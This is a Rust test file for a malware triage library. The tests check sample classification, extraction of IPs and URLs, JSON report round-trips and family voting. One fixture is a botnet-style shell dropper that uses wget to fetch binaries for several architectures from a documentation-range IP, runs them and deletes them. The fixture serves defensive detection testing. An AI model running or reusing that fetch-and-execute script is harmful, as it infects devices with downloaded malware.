//! Whole files, as a caller sees their reports.

use komainu_triage::{NoRules, Outside, Report, RuleHit, Rules, triage};

fn of(bytes: &[u8]) -> Report {
    triage(bytes, &NoRules, &Outside::default())
}

const DROPPER: &[u8] = b"#!/bin/sh\ncd /tmp || cd /var/run\nfor a in arm7 mips mpsl; do\n  \
    wget http://198.51.100.7/bins/$a -O .x; chmod 777 .x; ./.x telnet\ndone\nrm -rf .x\n";

#[test]
fn a_script_that_fetches_and_runs_is_suspicious_and_names_its_server() {
    let report = of(DROPPER);
    let sample = &report.samples[0];
    assert_eq!((&*sample.kind, &*report.verdict.level), ("script-shell", "suspicious"));
    let found = |kind: &str| sample.findings.iter().find(|finding| finding.kind == kind).unwrap();
    assert_eq!(found("ipv4").value, "198.51.100.7");
    assert!(found("url").value.starts_with("http://198.51.100.7/bins/"));
    let offset = usize::try_from(found("ipv4").offset).unwrap();
    assert!(DROPPER[offset..].starts_with(b"198.51.100.7"), "every finding has its place");
}

#[test]
fn a_report_is_json_and_comes_back() {
    let report = of(DROPPER);
    let json = serde_json::to_string(&report).unwrap();
    assert!(json.starts_with("{\"version\":1,"));
    assert_eq!(serde_json::from_str::<Report>(&json).unwrap(), report);
}

/// The recorded form of version 1 is read as long as there are such records.
#[test]
fn a_report_of_version_1_is_read() {
    let recorded = include_str!("../data/report-1.json");
    let report: Report = serde_json::from_str(recorded).unwrap();
    assert_eq!(report.version, 1);
    assert_eq!(report.samples[0].digests.sha256.len(), 64);
}

struct Family;

impl Rules for Family {
    fn ask(&self, contents: &[u8]) -> Result<Vec<RuleHit>, String> {
        if contents.is_empty() {
            return Err("nothing\x1b to ask about".into());
        }
        let hit = |rule: &str, meta: &[(&str, &str)]| RuleHit {
            namespace: "ours".into(),
            rule: rule.into(),
            tags: Vec::new(),
            meta: meta.iter().map(|(name, value)| ((*name).into(), (*value).into())).collect(),
            offsets: Vec::new(),
        };
        Ok(vec![hit("linux_bashlite_1", &[]), hit("something", &[("family", "Mirai")])])
    }
}

#[test]
fn families_are_voted_for() {
    let outside = Outside { neighbours: vec![("gafgyt".into(), 90)], vendor_labels: vec!["Linux.Qbot".into()] };
    let report = triage(b"text", &Family, &outside);
    assert_eq!(report.verdict.family.as_deref(), Some("gafgyt"));
    assert_eq!(report.verdict.votes, [("gafgyt".to_owned(), 6), ("mirai".to_owned(), 3)]);
    assert_eq!(report.verdict.level, "malicious");
    let problems = &triage(b"", &Family, &Outside::default()).samples[0].problems;
    assert_eq!(*problems, ["the rules of YARA were not asked: nothing\\u{1b} to ask about"]);
}

#[test]
fn what_is_too_large_has_digests_only() {
    let report = of(&vec![b'a'; komainu_triage::SAMPLE_BYTES_MAX + 1]);
    assert_eq!(report.samples[0].digests.sha256.len(), 64);
    assert!(report.samples[0].problems[0].contains("only its digests"));
}
